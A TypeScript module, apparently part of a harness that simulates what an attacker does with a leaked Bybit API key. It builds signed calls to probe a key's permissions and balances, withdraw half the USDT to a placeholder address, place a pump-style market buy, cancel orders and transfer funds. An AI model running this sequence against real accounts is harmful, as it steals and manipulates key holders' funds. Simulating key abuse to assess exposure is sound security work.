import { isJsonFault, isJsonObject, parseJson } from '../../../core/index.ts';
import type { Param, ThiefCall, ThiefHand, ThiefSeen } from '../../front.ts';
import { signBybit } from './auth.ts';

const call = (method: string, path: string, ...params: Param[]): ThiefCall => ({
  method,
  host: 'api.bybit.com',
  path,
  params,
});

/** What someone does with a stolen Bybit key, in the order in which it pays. */
export const bybitThief: ThiefHand = {
  sign: signBybit,
  worked: (status, body) => status === 200 && codeOf(body) === '0',
  steps: [
    {
      name: 'probe',
      calls: () => [
        call('GET', '/v5/user/query-api'),
        call('GET', '/v5/account/wallet-balance', ['accountType', 'UNIFIED']),
        call('GET', '/v5/order/realtime', ['category', 'spot']),
        call('GET', '/v5/order/realtime', ['category', 'linear'], ['settleCoin', 'USDT']),
      ],
    },
    { name: 'withdraw', calls: (seen) => [withdrawal(seen)] },
    {
      name: 'buy',
      calls: () => [
        call(
          'POST',
          '/v5/order/create',
          ['category', 'spot'],
          ['symbol', 'PUMPUSDT'],
          ['side', 'Buy'],
          ['orderType', 'Market'],
          ['qty', '500'],
        ),
      ],
    },
    {
      name: 'cancel',
      calls: () => [
        call('POST', '/v5/order/cancel-all', ['category', 'spot']),
        call('POST', '/v5/order/cancel-all', ['category', 'linear'], ['settleCoin', 'USDT']),
      ],
    },
    {
      name: 'transfer',
      calls: () => [
        call(
          'POST',
          '/v5/asset/transfer/inter-transfer',
          ['transferId', '42c0cfb0-6bca-4242-8c76-4e6df6cbab16'],
          ['coin', 'USDT'],
          ['amount', '100'],
          ['fromAccountType', 'UNIFIED'],
          ['toAccountType', 'FUND'],
        ),
      ],
    },
  ],
};

function codeOf(body: string): string {
  const value = parseJson(body);
  if (isJsonFault(value) || !isJsonObject(value)) return '';
  const code = value['retCode'];
  return isJsonObject(code) || Array.isArray(code) || code === null || typeof code !== 'object'
    ? String(code)
    : code.text;
}

/** Half of the USDT that the probe saw. */
function withdrawal(seen: readonly ThiefSeen[]): ThiefCall {
  const balance = seen.find(({ call: one }) => one.path === '/v5/account/wallet-balance')?.body ?? '';
  const held = /"coin":"USDT"[^{}]*?"walletBalance":"(\d+)/.exec(balance)?.[1] ?? '100';
  return call(
    'POST',
    '/v5/asset/withdraw/create',
    ['coin', 'USDT'],
    ['chain', 'TRX'],
    ['address', 'the-address-of-the-thief'],
    ['amount', String(Math.floor(Number(held) / 2))],
    ['timestamp', '1790000000000'],
    ['accountType', 'UTA'],
  );
}
